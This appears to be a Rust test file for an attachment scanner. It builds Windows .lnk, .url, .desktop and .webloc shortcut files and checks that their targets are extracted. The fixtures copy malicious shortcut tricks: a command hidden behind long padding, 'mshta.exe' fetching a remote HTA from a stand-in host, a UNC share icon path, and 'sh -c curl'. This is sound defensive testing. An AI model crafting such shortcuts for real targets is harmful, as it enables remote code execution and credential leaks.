use crate::files::tests::seen;
use madoguchi_model::{AttachmentFinding, FileType};

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A shell link with the given flags and what follows the header.
fn lnk(flags: u32, rest: &[u8]) -> Vec<u8> {
    let class = b"\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";
    let mut bytes = [&76_u32.to_le_bytes()[..], class, &flags.to_le_bytes()].concat();
    bytes.resize(76, 0);
    [bytes, rest.to_vec()].concat()
}

fn counted(text: &str) -> Vec<u8> {
    [
        &(text.encode_utf16().count() as u16).to_le_bytes()[..],
        &wide(text),
    ]
    .concat()
}

fn target(bytes: &[u8], name: &str) -> String {
    let seen = seen(name, bytes);
    assert_eq!(seen.file.file_type, FileType::Shortcut);
    let mut targets = seen.file.findings.into_iter().filter_map(|f| match f {
        AttachmentFinding::ShortcutTarget { target } => Some(target),
        _ => None,
    });
    targets.next().unwrap_or_default()
}

#[test]
fn shell_links() {
    let padded = format!("{}/c start https://run.example/x", " ".repeat(300));
    let relative = [
        &[2, 0, 0xaa, 0xaa][..],
        &counted("..\\cmd.exe"),
        &counted(&padded),
    ]
    .concat();
    let bytes = lnk(0x01 | 0x08 | 0x20 | 0x80, &relative);
    assert_eq!(
        target(&bytes, "a.lnk"),
        "..\\cmd.exe /c start https://run.example/x"
    );
    assert_eq!(seen("a.lnk", &bytes).targets(), ["https://run.example/x"]);
    let info = [
        &46_u32.to_le_bytes()[..],
        &28_u32.to_le_bytes(),
        &1_u32.to_le_bytes(),
        &[0; 4],
        &28_u32.to_le_bytes(),
        &[0; 8],
        b"C:\\\x90\xbf.exe\0\0\0\0\0\0\0\0",
    ]
    .concat();
    assert_eq!(target(&lnk(0x02, &info), "b"), "C:\\請.exe");
    let mut variables = wide("%windir%\\system32\\mshta.exe");
    variables.resize(520, 0);
    let block = [
        &788_u32.to_le_bytes()[..],
        &0xa000_0001_u32.to_le_bytes(),
        &[0; 260],
        &variables,
    ]
    .concat();
    let arguments = [counted("https://hta.example/a.hta"), block].concat();
    assert_eq!(
        target(&lnk(0x20 | 0x80, &arguments), "c.lnk"),
        "%windir%\\system32\\mshta.exe https://hta.example/a.hta"
    );
}

#[test]
fn long_targets_are_cut() {
    let bytes = lnk(0x20 | 0x80, &counted(&"あ".repeat(2_000)));
    assert_eq!(
        target(&bytes, "a.lnk").len(),
        1_023,
        "whole characters within 1,024 bytes"
    );
}

#[test]
fn damaged_shell_links() {
    for length in 0..80 {
        seen("a.lnk", lnk(0xff, &[0xff; 40]).get(..length).unwrap_or(&[]));
    }
    assert_eq!(target(&lnk(0xff, &[0xff; 40]), "a.lnk"), "");
}

#[test]
fn shortcuts_that_are_text() {
    let url = "[InternetShortcut]\r\nURL=https://url.example/\r\nIconFile=C:\\a.ico\r\n";
    assert_eq!(target(url.as_bytes(), "a.url"), "https://url.example/");
    assert_eq!(
        seen("a.url", url.as_bytes()).targets(),
        ["https://url.example/"]
    );
    let share =
        "[InternetShortcut]\nIconFile=\\\\share.example\\a\\b.ico\nURL=file://share.example/a";
    assert_eq!(
        target(share.as_bytes(), "a.url"),
        "\\\\share.example\\a\\b.ico"
    );
    assert_eq!(
        target(
            b"[Desktop Entry]\nName=a\nExec=sh -c 'curl x'\n",
            "a.desktop"
        ),
        "sh -c 'curl x'"
    );
    let location = "<?xml version='1.0'?><plist><dict><key>URL</key><string>https://loc.example/?a&amp;b</string></dict></plist>";
    assert_eq!(
        target(location.as_bytes(), "a.webloc"),
        "https://loc.example/?a&b"
    );
}
